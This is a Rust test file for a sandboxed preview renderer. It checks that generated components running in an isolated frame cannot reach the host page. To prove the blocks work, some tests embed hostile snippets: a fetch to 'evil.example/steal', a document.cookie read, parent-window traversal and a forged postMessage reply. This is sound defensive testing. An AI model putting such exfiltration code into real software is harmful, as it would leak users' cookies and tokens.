//! Tests for isolated execution.

use super::*;
use crate::catalog;
use crate::capability::HostEnvironment;
use crate::policy::{FramePolicy, SandboxAttributes, SandboxToken};
use crate::tier::{PreviewConfig, PreviewRenderer};
use crate::sanitize::sanitize;
use serde_json::json;
use std::sync::atomic::{AtomicUsize, Ordering};

type Script = dyn Fn(usize, &MessagePort, &RenderRequest) + Send + Sync;

/// A frame that answers according to a script instead of rendering.
struct ScriptedFrame {
    mount: usize,
    port: MessagePort,
    script: Arc<Script>,
}

impl NestedFrame for ScriptedFrame {
    fn post(&self, data: serde_json::Value) -> Result<()> {
        if let Inbound::Message(request) = decode_request(&data) {
            (self.script)(self.mount, &self.port, &request);
        }
        Ok(())
    }

    fn viewport(&self, sequence: u64) -> FrameViewport {
        FrameViewport::detached(sequence)
    }

    fn teardown(&mut self) {}
}

struct ScriptedFactory {
    mounts: AtomicUsize,
    script: Arc<Script>,
}

impl ScriptedFactory {
    fn new(script: impl Fn(usize, &MessagePort, &RenderRequest) + Send + Sync + 'static) -> Arc<Self> {
        Arc::new(Self {
            mounts: AtomicUsize::new(0),
            script: Arc::new(script),
        })
    }
}

impl FrameFactory for ScriptedFactory {
    fn mount(&self, _config: &IsolationConfig, port: MessagePort, _journal: Arc<FrameJournal>) -> Result<Box<dyn NestedFrame>> {
        let mount = self.mounts.fetch_add(1, Ordering::SeqCst) + 1;
        Ok(Box::new(ScriptedFrame {
            mount,
            port,
            script: self.script.clone(),
        }))
    }
}

fn reply(port: &MessagePort, sequence: u64, outcome: std::result::Result<(), Failure>) {
    port.post(Origin::Opaque, RenderReply { sequence, outcome }.to_value());
}

fn quick() -> IsolationConfig {
    IsolationConfig::fast().reply_timeout_ms(200)
}

fn candidate() -> SourceCandidate {
    sanitize("function A() { return null }")
}

#[tokio::test]
async fn test_ok_reply_renders() {
    let factory = ScriptedFactory::new(|_, port, request| reply(port, request.sequence, Ok(())));
    let executor = IsolatedExecutor::mount_with(quick(), factory).unwrap();
    let result = executor.render(candidate(), "A").await;
    assert!(result.is_rendered());
    assert!(result.surface().unwrap().is_framed());
    assert_eq!(executor.exchange_state(), ExchangeState::Resolved(1));
}

#[tokio::test]
async fn test_stale_reply_does_not_resolve_newer_request() {
    let factory = ScriptedFactory::new(|_, port, request| {
        if request.sequence == 2 {
            reply(port, 1, Ok(()));
            reply(port, 2, Err(Failure::new(ErrorKind::RuntimeError, "second")));
        }
    });
    let executor = IsolatedExecutor::mount_with(quick(), factory).unwrap();

    let (first, second) = tokio::join!(executor.render(candidate(), "A"), executor.render(candidate(), "A"));

    let first = first.failure().cloned().unwrap();
    assert_eq!(first.kind, ErrorKind::ChannelError);
    assert!(first.message.contains("superseded"));
    assert_eq!(second.failure(), Some(&Failure::new(ErrorKind::RuntimeError, "second")));
}

#[tokio::test]
async fn test_silent_frame_times_out_and_is_remounted() {
    let factory = ScriptedFactory::new(|mount, port, request| {
        if mount > 1 {
            reply(port, request.sequence, Ok(()));
        }
    });
    let executor = IsolatedExecutor::mount_with(quick(), factory.clone()).unwrap();

    let started = std::time::Instant::now();
    let result = executor.render(candidate(), "A").await;
    assert_eq!(result.failure().unwrap().kind, ErrorKind::Timeout);
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    assert_eq!(executor.exchange_state(), ExchangeState::TimedOut(1));
    assert_eq!(factory.mounts.load(Ordering::SeqCst), 2);

    assert!(executor.render(candidate(), "A").await.is_rendered());
}

#[tokio::test]
async fn test_foreign_origin_is_ignored() {
    let factory = ScriptedFactory::new(|_, port, request| {
        port.post(
            Origin::Tuple("https://evil.example".into()),
            RenderReply {
                sequence: request.sequence,
                outcome: Ok(()),
            }
            .to_value(),
        );
        reply(port, request.sequence, Err(Failure::new(ErrorKind::SyntaxError, "genuine")));
    });
    let executor = IsolatedExecutor::mount_with(quick(), factory).unwrap();
    let result = executor.render(candidate(), "A").await;
    assert_eq!(result.failure().unwrap().message, "genuine");
}

#[tokio::test]
async fn test_unknown_types_are_ignored() {
    let factory = ScriptedFactory::new(|_, port, request| {
        port.post(Origin::Opaque, json!({ "type": "resize", "height": 120 }));
        reply(port, request.sequence, Ok(()));
    });
    let executor = IsolatedExecutor::mount_with(quick(), factory).unwrap();
    assert!(executor.render(candidate(), "A").await.is_rendered());
}

#[tokio::test]
async fn test_malformed_matching_reply_is_channel_error() {
    let factory = ScriptedFactory::new(|_, port, request| {
        port.post(
            Origin::Opaque,
            json!({ "type": "result", "sequence": request.sequence, "status": "maybe" }),
        );
    });
    let executor = IsolatedExecutor::mount_with(quick(), factory).unwrap();
    let result = executor.render(candidate(), "A").await;
    assert_eq!(result.failure().unwrap().kind, ErrorKind::ChannelError);
}

#[test]
fn test_mount_outside_runtime_is_unsupported() {
    let factory = ScriptedFactory::new(|_, _, _| {});
    match IsolatedExecutor::mount_with(quick(), factory) {
        Err(SandboxError::UnsupportedTier(Tier::Isolated, _)) => {}
        other => panic!("expected unsupported tier, got {other:?}"),
    }
}

// Real nested contexts from here on.

fn executor() -> IsolatedExecutor {
    IsolatedExecutor::mount(IsolationConfig::fast()).unwrap()
}

#[tokio::test]
async fn test_safe_counter_in_frame() {
    let executor = executor();
    let mut result = executor
        .render(sanitize(catalog::SAFE_COUNTER.source), catalog::SAFE_COUNTER.component)
        .await;
    let surface = result.surface_mut().unwrap();
    assert!(surface.snapshot().unwrap().contains_text("Click the button!"));

    surface.click_text("Increment").unwrap();
    let tree = surface.snapshot().unwrap();
    assert!(tree.contains_text("You clicked 1 time"), "{}", tree.text_content());
}

#[tokio::test]
async fn test_malicious_is_contained() {
    let host = HostEnvironment::builder()
        .local_item("authToken", "secret-token")
        .cookie("session", "s3ss10n")
        .build();
    let renderer = PreviewRenderer::builder()
        .tier(Tier::Isolated)
        .host(host.clone())
        .config(PreviewConfig {
            isolation: IsolationConfig::fast(),
            ..Default::default()
        })
        .build()
        .unwrap();
    let result = renderer
        .render_generated(catalog::MALICIOUS.source, catalog::MALICIOUS.component)
        .await;

    let tree = result.surface().unwrap().snapshot().unwrap();
    assert!(tree.contains_text("localStorage blocked"));
    assert!(!tree.contains_text("secret-token"));
    let journal = renderer.isolated().unwrap().journal();
    assert!(journal.console().iter().any(|entry| entry.message == "Fetch blocked"));

    // the renderer's host is the page the frame is embedded in; nothing reached it
    assert!(host.accesses().is_empty());
    assert!(host.egress().is_empty());
    assert_eq!(host.evaluations(), 0);
}

#[tokio::test]
async fn test_scripts_blocked_without_allow_scripts() {
    let sandbox = SandboxAttributes::new([SandboxToken::AllowForms]).unwrap();
    let config = IsolationConfig::fast().policy(FramePolicy::default().with_sandbox(sandbox));
    let executor = IsolatedExecutor::mount(config).unwrap();
    let result = executor
        .render(sanitize(catalog::SAFE_COUNTER.source), catalog::SAFE_COUNTER.component)
        .await;
    let failure = result.failure().unwrap();
    assert_eq!(failure.kind, ErrorKind::RuntimeError);
    assert_eq!(failure.message, "scripts are blocked by the sandbox (no allow-scripts)");
    assert!(executor.journal().console().is_empty());
}

#[tokio::test]
async fn test_evasive_is_contained() {
    let executor = executor();
    let result = executor
        .render(sanitize(catalog::EVASIVE.source), catalog::EVASIVE.component)
        .await;
    let tree = result.surface().unwrap().snapshot().unwrap();
    assert!(tree.contains_text("localStorage blocked"));
}

#[tokio::test]
async fn test_uncaught_cookie_read_is_reported() {
    let executor = executor();
    let result = executor
        .render(sanitize("function C() { return <p>{document.cookie}</p> }"), "C")
        .await;
    let failure = result.failure().unwrap();
    assert_eq!(failure.kind, ErrorKind::RuntimeError);
    assert!(failure.message.starts_with("SecurityError"), "{}", failure.message);
}

#[tokio::test]
async fn test_fetch_is_refused_by_csp() {
    let executor = executor();
    let src = r#"
        function Leak() {
          const [status, setStatus] = useState('pending');
          useEffect(() => {
            fetch('https://evil.example/steal').then(() => setStatus('sent')).catch((e) => setStatus(e.message));
          }, []);
          return <p>{status}</p>;
        }
    "#;
    let result = executor.render(sanitize(src), "Leak").await;
    let tree = result.surface().unwrap().snapshot().unwrap();
    assert_eq!(tree.text_content(), "Failed to fetch");

    let violations = executor.journal().violations();
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].directive, "connect-src");
    assert_eq!(violations[0].blocked_uri, "https://evil.example/steal");
}

#[tokio::test]
async fn test_parent_traversal_is_cross_origin() {
    let executor = executor();
    let src = r#"
        function Peek() {
          let seen;
          try {
            seen = window.parent.document.title;
          } catch (e) {
            seen = e.name;
          }
          window.parent.postMessage({ type: 'result', sequence: 99, status: 'ok' }, '*');
          return <p>{seen}</p>;
        }
    "#;
    let result = executor.render(sanitize(src), "Peek").await;
    let tree = result.surface().unwrap().snapshot().unwrap();
    assert_eq!(tree.text_content(), "SecurityError");
}

#[tokio::test]
async fn test_syntax_error_in_frame() {
    let executor = executor();
    let result = executor
        .render(sanitize(catalog::BROKEN.source), catalog::BROKEN.component)
        .await;
    assert_eq!(result.failure().unwrap().kind, ErrorKind::SyntaxError);
}

#[tokio::test]
async fn test_runaway_script_interrupted_in_frame() {
    let executor = executor();
    let result = executor
        .render(sanitize("function Spin() { while (true) {} return null }"), "Spin")
        .await;
    assert_eq!(result.failure().unwrap().kind, ErrorKind::Timeout);

    let result = executor.render(sanitize("function Ok() { return <p>fine</p> }"), "Ok").await;
    assert_eq!(result.surface().unwrap().snapshot().unwrap().text_content(), "fine");
}

#[tokio::test]
async fn test_host_timeout_remounts_real_frame() {
    let config = IsolationConfig::default().reply_timeout_ms(200).render_budget_ms(10_000);
    let executor = IsolatedExecutor::mount(config).unwrap();
    let result = executor
        .render(sanitize("function Spin() { while (true) {} return null }"), "Spin")
        .await;
    assert_eq!(result.failure().unwrap().kind, ErrorKind::Timeout);

    let result = executor.render(sanitize("function Ok() { return <p>back</p> }"), "Ok").await;
    assert_eq!(result.surface().unwrap().snapshot().unwrap().text_content(), "back");
}

#[tokio::test]
async fn test_superseded_viewport_is_stale() {
    let executor = executor();
    let first = executor.render(sanitize("function A() { return <p>a</p> }"), "A").await;
    let second = executor.render(sanitize("function B() { return <p>b</p> }"), "B").await;
    assert_eq!(second.surface().unwrap().snapshot().unwrap().text_content(), "b");
    assert_eq!(
        first.surface().unwrap().snapshot().unwrap_err().kind,
        ErrorKind::ChannelError
    );
}
